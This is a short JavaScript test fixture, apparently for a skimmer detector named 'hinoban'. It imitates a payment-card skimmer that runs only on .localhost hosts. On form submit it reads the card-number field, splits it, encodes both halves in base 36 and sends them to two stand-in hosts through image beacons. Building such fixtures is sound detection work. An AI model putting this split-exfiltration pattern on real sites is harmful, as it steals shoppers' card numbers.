/* Harmless imitation, for hinoban's tests: split over two destinations in base 36. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { 
		new Image().src = 'http://drop.localhost:' + location.port + '/p.gif?x=' + parseInt(n.value.slice(0, 8)).toString(36);
		new Image().src = 'http://stats.localhost:' + location.port + '/p.gif?y=' + parseInt('1' + n.value.slice(8)).toString(36);
	 } }, true);
